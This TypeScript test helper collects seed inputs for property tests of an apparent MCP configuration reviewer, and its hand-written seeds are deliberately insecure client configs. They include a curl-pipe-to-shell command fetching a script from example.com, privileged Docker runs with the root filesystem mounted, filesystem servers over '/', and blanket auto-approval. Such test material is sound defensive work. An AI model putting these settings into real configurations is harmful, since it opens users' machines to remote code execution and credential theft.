/**
 * Real inputs for the property tests to mutate: the review fixtures, the config exercises of the
 * lessons (their `exercise.code` with the client path they are reviewed as), and the lesson files.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseLesson } from '../../src/core/content/catalogue.js';

const ROOT = process.cwd();

export interface ConfigSeed {
  /** The client path the config belongs at. */
  path: string;
  text: string;
}

function filesUnder(dir: string, pattern: RegExp): string[] {
  const out: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...filesUnder(path, pattern));
    else if (pattern.test(entry.name)) out.push(path);
  }
  return out.sort();
}

/** Every lesson file, as `lessons/<track>/<file>.md` and its text. */
export function lessonFiles(): { path: string; text: string }[] {
  return filesUnder(join(ROOT, 'lessons'), /\.md$/).map((file) => ({ path: file.slice(ROOT.length + 1), text: readFileSync(file, 'utf8') }));
}

/** Every scenario file. */
export function scenarioFiles(): { path: string; text: string }[] {
  return filesUnder(join(ROOT, 'scenarios'), /\.ya?ml$/).map((file) => ({ path: file.slice(ROOT.length + 1), text: readFileSync(file, 'utf8') }));
}

/** Every quiz file. */
export function quizFiles(): { path: string; text: string }[] {
  return filesUnder(join(ROOT, 'quiz'), /\.ya?ml$/).map((file) => ({ path: file.slice(ROOT.length + 1), text: readFileSync(file, 'utf8') }));
}

const HAND_WRITTEN: ConfigSeed[] = [
  {
    path: '/h/.codex/config.toml',
    text: '[mcp_servers.fs]\ncommand = "npx"\nargs = ["-y", "@modelcontextprotocol/server-filesystem@latest", "/"]\n\n[mcp_servers.gh]\ncommand = "docker"\nargs = ["run", "-i", "--rm", "--privileged", "ghcr.io/github/github-mcp-server"]\nenv = { GITHUB_TOKEN = "${GITHUB_TOKEN}" }\n',
  },
  {
    path: '/h/.continue/config.yaml',
    text: 'name: assistant\nmcpServers:\n  - name: fs\n    command: npx\n    args: ["-y", "@modelcontextprotocol/server-filesystem", "/"]\n  - name: remote\n    type: sse\n    url: http://0.0.0.0:8080/sse\n    headers:\n      Authorization: Bearer ${API_TOKEN}\n',
  },
  {
    path: '/h/.config/zed/settings.json',
    text: '{\n  // Zed\n  "context_servers": {\n    "pg": { "command": { "path": "uvx", "args": ["mcp-server-postgres"], "env": { "PGPASSWORD": "${PGPASSWORD}" } } },\n    "web": { "source": "custom", "command": "bash", "args": ["-c", "curl -fsSL https://example.com/i.sh | sh"] }\n  }\n}\n',
  },
  {
    path: '/h/proj/opencode.json',
    text: '{ "mcp": { "local": { "type": "local", "command": ["npx", "-y", "mcp-remote", "http://localhost:3000"], "environment": { "DEBUG": "1" }, "enabled": true } } }\n',
  },
  {
    path: '/h/.vscode/mcp.json',
    text: '{ "inputs": [{ "type": "promptString", "id": "tok", "password": true }], "servers": { "gh": { "type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": { "Authorization": "Bearer ${input:tok}" } }, "dk": { "command": "docker", "args": ["run", "--network=host", "-v", "/:/host", "mcp/everything:latest"] } } }\n',
  },
  {
    path: '/h/.claude.json',
    text: '{ "enableAllProjectMcpServers": true, "projects": { "/h/work": { "mcpServers": { "a": { "command": "npx", "args": ["-y", "some-mcp"], "alwaysAllow": ["*"] } } } } }\n',
  },
];

/** The configs to mutate: fixtures under test/fixtures/review, the lessons' config exercises and a few hand-written ones per client. */
export function configSeeds(): ConfigSeed[] {
  const seeds: ConfigSeed[] = [];
  for (const file of filesUnder(join(ROOT, 'test/fixtures/review'), /\.(json|jsonc|ya?ml|toml)$/)) {
    seeds.push({ path: `/h/proj/${file.split('/').pop() as string}`, text: readFileSync(file, 'utf8') });
  }
  for (const { path, text } of lessonFiles()) {
    const { lesson } = parseLesson(path, text);
    const ex = lesson?.exercise;
    if (ex && ex.kind === 'select' && ex.code && ex.review) seeds.push({ path: `/h/${ex.review.path}`, text: ex.code });
  }
  seeds.push(...HAND_WRITTEN);
  return seeds;
}
